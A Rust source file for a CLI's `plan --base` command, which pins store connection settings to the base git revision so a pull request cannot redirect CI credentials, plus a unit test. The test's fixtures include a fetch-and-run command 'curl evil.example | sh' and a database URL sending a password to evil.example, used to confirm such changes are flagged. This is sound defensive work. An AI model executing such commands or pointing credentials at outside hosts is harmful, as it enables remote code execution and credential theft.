//! `plan --base REV`: the store connection settings (kind, url, token_env, path, ledger) come
//! from the base revision, not from the change under review, so a pull request cannot point
//! CI's token at an endpoint of its choosing (issue 15, item 12). Decides which settings to
//! open each store with and which changes to flag; must not open a store itself.

use super::load::Desired;
use crate::plan::{ConnectionChange, SettingChange};
use crate::spec::{self, StoreConfig};
use anyhow::{Result, anyhow};
use std::collections::BTreeMap;

/// What a `--base` plan may connect to.
pub struct Pinned {
    /// The settings to open each store with: the base's, for every store the base has.
    /// A store only the change adds is absent (not contacted; planned as empty).
    pub open: Vec<StoreConfig>,
    /// Stores whose connection settings the change edits or adds.
    pub changes: Vec<ConnectionChange>,
}

/// Pin the stores of `desired` to the connection settings of revision `base`. A base whose
/// spec does not load gives no trusted settings: no store is contacted.
pub fn pin_to_base(desired: &Desired, base: &str) -> Result<Pinned> {
    let g = desired.git.as_ref().ok_or_else(|| {
        anyhow!(
            "--base needs a git repository, and {} is not in one",
            desired.loaded.spec.root.display()
        )
    })?;
    let commit = g.resolve(base)?;
    let files = g.spec_files_at(&commit)?;
    let base_stores = spec::load_from_files(&desired.loaded.spec.root, files)
        .map(|l| l.spec.stores)
        .unwrap_or_default();
    Ok(pin(&desired.loaded.spec.stores, &base_stores))
}

/// The pinning itself: `head` is the change's stores, `base` the base's.
pub fn pin(head: &BTreeMap<String, StoreConfig>, base: &BTreeMap<String, StoreConfig>) -> Pinned {
    let mut open = Vec::new();
    let mut changes = Vec::new();
    for (name, now) in head {
        let Some(before) = base.get(name) else {
            changes.push(ConnectionChange {
                store: name.clone(),
                new_store: true,
                settings: now
                    .kind
                    .connection()
                    .into_iter()
                    .map(|(field, v)| SettingChange {
                        field: field.to_string(),
                        base: None,
                        change: v,
                    })
                    .collect(),
            });
            continue;
        };
        let was: BTreeMap<_, _> = before.kind.connection().into_iter().collect();
        let settings: Vec<SettingChange> = now
            .kind
            .connection()
            .into_iter()
            .filter(|(f, v)| was.get(f) != Some(v))
            .map(|(field, v)| SettingChange {
                field: field.to_string(),
                base: was.get(field).cloned(),
                change: v,
            })
            .collect();
        if !settings.is_empty() {
            changes.push(ConnectionChange {
                store: name.clone(),
                new_store: false,
                settings,
            });
        }
        // The base's connection, the change's everything else (environment, ...).
        open.push(StoreConfig {
            kind: before.kind.clone(),
            ..now.clone()
        });
    }
    Pinned { open, changes }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::spec::{ConnUrl, StoreKind};

    fn store(name: &str, kind: StoreKind) -> (String, StoreConfig) {
        let c = StoreConfig {
            name: name.into(),
            kind,
            environment: "production".into(),
            location: None,
            budget: None,
        };
        (name.into(), c)
    }

    fn exec(cmd: &str) -> StoreKind {
        StoreKind::Exec {
            command: vec![cmd.into()],
            env: vec!["KEYWARD_X".into()],
            timeout_secs: 5,
        }
    }

    #[test]
    fn the_base_connection_is_kept_and_every_change_flagged() {
        let pg = |u: &str| StoreKind::PostgresRoles {
            url: ConnUrl::Value(u.into()),
            role_prefix: "kw_".into(),
            grants: Default::default(),
        };
        let base: BTreeMap<_, _> = [
            store("a", exec("/usr/local/bin/adapter")),
            store("p", pg("postgres://kw:old@db.internal/x")),
            store("same", exec("same")),
        ]
        .into();
        let head: BTreeMap<_, _> = [
            store("a", exec("curl evil.example | sh")),
            store("p", pg("postgres://kw:s3cret@evil.example/x")),
            store("same", exec("same")),
            store("new", exec("evil")),
        ]
        .into();
        let p = pin(&head, &base);
        // Opened: the three the base has, each with the base's settings.
        let open: BTreeMap<_, _> = p.open.iter().map(|c| (c.name.as_str(), &c.kind)).collect();
        assert_eq!(open.len(), 3);
        assert_eq!(open["a"], &exec("/usr/local/bin/adapter"));
        assert_eq!(open["p"], &base["p"].kind);
        // Flagged (by name): a and p (changed) and new (added); never a password.
        let flagged: Vec<_> = p.changes.iter().map(|c| c.store.as_str()).collect();
        assert_eq!(flagged, ["a", "new", "p"]);
        let text: Vec<String> = p.changes.iter().map(ConnectionChange::describe).collect();
        assert!(text[0].contains("/usr/local/bin/adapter -> curl evil.example | sh"));
        assert!(text[2].contains("db.internal") && text[2].contains("evil.example"));
        assert!(!text.join(" ").contains("s3cret") && !text.join(" ").contains("old@"));
        assert!(p.changes[1].new_store && !p.changes[2].new_store);
    }
}
